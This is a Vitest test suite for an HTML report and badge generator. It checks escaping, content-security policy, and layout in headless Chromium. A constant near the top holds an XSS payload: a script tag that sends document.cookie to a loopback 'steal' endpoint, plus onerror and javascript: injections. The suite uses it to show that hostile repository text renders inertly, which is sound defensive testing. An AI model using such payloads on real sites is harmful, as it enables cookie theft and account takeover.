// The HTML report (and the badge): self-contained, every repository string escaped, and it really renders
// in headless Chromium with no console errors and no network request.
import { readdirSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../src/report/report.js';
import { badgeFor, renderBadge } from '../src/reporters/badge.js';
import { main } from '../src/cli.js';
import { readAuditHistory } from '../src/audit/history.js';
import { renderAuditHtml, renderHtml } from '../src/reporters/html.js';
import { REPORTERS } from '../src/reporters/index.js';
import { chromiumAvailable, CHROMIUM_SKIP_REASON, LAYOUT_PROBE, openReportBrowser, renderInChromium, type ReportBrowser } from './browser.js';
import { FIXTURES, makeTree, scanDir, tempDir } from './helpers.js';

const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script><img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a>"'\`=&lt;`;

let complete: Report;
let notebooks: Report;
let hostile: Report;
/** A real scan of every fixture, by folder name. */
const fixtureReports = new Map<string, Report>();

beforeAll(async () => {
  for (const name of readdirSync(FIXTURES)) fixtureReports.set(name, await scanDir(path.join(FIXTURES, name)));
  complete = fixtureReports.get('complete-handover')!;
  notebooks = fixtureReports.get('notebook-dump')!;
  // A real scan of a tree whose names carry markup, then every repo-derived string poisoned.
  const dir = makeTree({ 'docs/adr/0001-<img src=x onerror=alert(1)>.md': `# 1. ${HOSTILE}\n\nDate: 2025-02-01\n\n## Status\n\nAccepted\n` });
  const scanned = await scanDir(dir);
  hostile = structuredClone(scanned);
  hostile.target = { ...hostile.target, path: HOSTILE, ref: HOSTILE, commit: HOSTILE };
  hostile.gate.reasons.push(HOSTILE);
  hostile.errors.push({ path: HOSTILE, message: HOSTILE });
  hostile.policy.notes.push(HOSTILE);
  hostile.policy.source = HOSTILE;
  for (const check of hostile.checks) {
    check.summary = HOSTILE;
    check.evidence.push({ path: HOSTILE, kind: HOSTILE, note: HOSTILE, line: 3 });
    check.findings.push({ id: 'poisoned', severity: 'error', message: HOSTILE, path: HOSTILE, remediation: HOSTILE });
  }
});

describe('HTML report (text)', () => {
  it('is registered as --format html and --format badge', () => {
    expect(REPORTERS.html(complete, { color: false })).toBe(renderHtml(complete));
    expect(JSON.parse(REPORTERS.badge(complete, { color: false }))).toEqual(badgeFor(complete));
  });

  it('is one self-contained document: no script, no external reference, a CSP that forbids requests', () => {
    const page = renderHtml(complete);
    expect(page.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'`);
    expect(page).not.toMatch(/<script|<link|<iframe|<object|<embed|@import|url\(/i);
    expect(page).not.toMatch(/\s(src|href)="(?!#)/i);
    // One chart per check, the score and the gate.
    expect(page.match(/<div class="chart"/g)).toHaveLength(complete.checks.length);
    expect(page).toContain(`${complete.score}/100`);
    expect(page).toContain(complete.passed ? 'GATE PASSED' : 'GATE FAILED');
  });

  it('shows findings with their remediation', () => {
    const page = renderHtml(notebooks);
    const finding = notebooks.checks.flatMap((check) => check.findings).find((f) => f.remediation);
    expect(finding).toBeDefined();
    expect(page).toContain('class="remedy"');
    expect(page).toContain(finding!.id);
  });

  it('escapes every repository-derived string', () => {
    const page = renderHtml(hostile);
    expect(page).not.toMatch(/<script|<img|<a href="javascript/i);
    expect(page).not.toContain('onerror="');
    expect(page).not.toMatch(/\s(src|href)="(?!#)/i);
    expect(page).toContain('&#60;script&#62;fetch(');
  });

  it('lists hostile findings under "Top findings" escaped, like everywhere else', () => {
    const top = /<h2 id="top-findings">.*?<\/ol>/s.exec(renderHtml(hostile))![0];
    expect(top).toContain('<span class="muted mono">poisoned</span>');
    expect(top).toContain('&#60;script&#62;fetch(');
    expect(top).not.toMatch(/<script|<img|onerror="|href="(?!#check-\d+")/i);
  });
});

describe('badge', () => {
  it('is a shields.io endpoint document coloured by the gate', () => {
    const passed = { ...complete, score: 86, passed: true, milestone: 'pilot' } as Report;
    const failedHigh = { ...complete, score: 62, passed: false, milestone: null } as Report;
    const failedLow = { ...complete, score: 31, passed: false, milestone: null } as Report;
    expect(badgeFor(passed)).toEqual({ schemaVersion: 1, label: 'handover (pilot)', message: '86/100', color: 'brightgreen' });
    expect(badgeFor({ ...passed, score: 72 })).toMatchObject({ color: 'green' });
    expect(badgeFor(failedHigh)).toEqual({ schemaVersion: 1, label: 'handover', message: '62/100 · gate failed', color: 'orange' });
    expect(badgeFor(failedLow).color).toBe('red');
    expect(JSON.parse(renderBadge(passed))).toEqual(badgeFor(passed));
  });
});

const PROBE = `(() => ({
  title: document.title,
  heading: document.querySelector('h1')?.textContent ?? '',
  charts: document.querySelectorAll('.chart').length,
  chartWidth: document.querySelector('.chart svg.bar')?.getBoundingClientRect().width ?? 0,
  gauge: document.querySelectorAll('svg.gauge').length,
  scripts: document.scripts.length,
  injected: document.querySelectorAll('img, iframe, object, embed, a[href^="javascript"]').length,
  bodyText: document.body.innerText.slice(0, 20000),
}))()`;

describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumAvailable ? '' : ` — SKIPPED: ${CHROMIUM_SKIP_REASON}`}`, () => {
  it('renders the complete-handover report with a chart per check, no console error and no request', async () => {
    const rendered = await renderInChromium(renderHtml(complete), 'complete-handover', PROBE);
    expect(rendered.consoleErrors).toEqual([]);
    expect(rendered.pageErrors).toEqual([]);
    expect(rendered.requests).toEqual([]);
    expect(rendered.facts.charts).toBe(complete.checks.length);
    expect(rendered.facts.gauge).toBe(1);
    expect(rendered.facts.chartWidth as number).toBeGreaterThan(150);
    expect(rendered.facts.heading).toContain('Handover readiness');
    expect(statSync(rendered.screenshot).size).toBeGreaterThan(5_000);
  });

  it('shows hostile repository text as text: nothing injected, nothing fetched', async () => {
    const rendered = await renderInChromium(renderHtml(hostile), 'hostile', PROBE);
    expect(rendered.consoleErrors).toEqual([]);
    expect(rendered.pageErrors).toEqual([]);
    expect(rendered.requests).toEqual([]);
    expect(rendered.facts.scripts).toBe(0);
    expect(rendered.facts.injected).toBe(0);
    expect(rendered.facts.bodyText as string).toContain("<script>fetch('http://127.0.0.1:9/steal");
  });

  // Desktop and phone: every line of text inside the viewport, no sideways scrolling, no SVG text cut off.
  const WIDTHS = [1280, 390];
  let browser: ReportBrowser;
  beforeAll(async () => {
    browser = await openReportBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it.each(readdirSync(FIXTURES).concat('hostile'))('lays out the %s report within the viewport at 1280 and 390 px', async (name) => {
    const report = name === 'hostile' ? hostile : fixtureReports.get(name)!;
    const rendered = await browser.render(renderHtml(report), name, LAYOUT_PROBE, WIDTHS);
    expect(rendered.consoleErrors).toEqual([]);
    for (const { width, facts } of rendered.widths) {
      expect(facts.viewport, `${name} at ${width}`).toBe(width);
      expect(facts.texts as number).toBeGreaterThan(100); // the probe measured the report, not an empty page
      expect(facts.outside, `${name} at ${width}: text outside the viewport`).toEqual([]);
      expect(facts.clipped, `${name} at ${width}: SVG text cut off`).toEqual([]);
      expect(facts.scrollWidth, `${name} at ${width}: the page scrolls sideways`).toBeLessThanOrEqual(facts.clientWidth as number);
    }
  });

  it('lays out the audit page within the viewport at 1280 and 390 px (the check matrix scrolls in its own box)', async () => {
    const work = tempDir('mlh-audit-layout-');
    const names = readdirSync(FIXTURES);
    const list = `engagements:\n${names.map((name) => `  - name: ${name}\n    target: ${JSON.stringify(path.join(FIXTURES, name))}\n    owner: owner-of-${name}@example.com\n`).join('')}`;
    writeFileSync(path.join(work, 'engagements.yml'), list);
    const history = path.join(work, 'history');
    const code = await main(['audit', path.join(work, 'engagements.yml'), '--history', history, '--format', 'json'], { stdout: () => {}, stderr: () => {} });
    expect([0, 1]).toContain(code);
    const { records } = readAuditHistory(history);
    const record = records.at(-1)!.record;
    const rendered = await browser.render(renderAuditHtml(record, records.map((stored) => stored.record)), 'audit', LAYOUT_PROBE, WIDTHS);
    expect(rendered.consoleErrors).toEqual([]);
    for (const { width, facts } of rendered.widths) {
      expect(facts.texts as number).toBeGreaterThan(100);
      expect(facts.outside, `audit at ${width}: text outside the viewport`).toEqual([]);
      expect(facts.clipped, `audit at ${width}: SVG text cut off`).toEqual([]);
      expect(facts.scrollWidth, `audit at ${width}: the page scrolls sideways`).toBeLessThanOrEqual(facts.clientWidth as number);
    }
  });

  it('shows every criterion label whole, on one line at 1280 px', async () => {
    const rendered = await browser.render(
      renderHtml(fixtureReports.get('complete-handover')!),
      'labels',
      `(() => [...document.querySelectorAll('.bar-label')].map((label) => ({ text: label.textContent, lines: label.getClientRects().length, height: label.getBoundingClientRect().height })))()`,
      [1280],
    );
    const labels = rendered.widths[0].facts as unknown as Array<{ text: string; height: number }>;
    const titles = fixtureReports.get('complete-handover')!.checks.flatMap((check) => ['Check score', ...check.criteria.map((criterion) => criterion.title)]);
    expect(labels.map((label) => label.text)).toEqual(titles);
    // 12 px text on a 1.5 line height: one line is 18 px; a wrapped label would be 36.
    expect(labels.filter((label) => label.height > 20).map((label) => label.text)).toEqual([]);
  });
});

if (!chromiumAvailable) console.warn(CHROMIUM_SKIP_REASON);
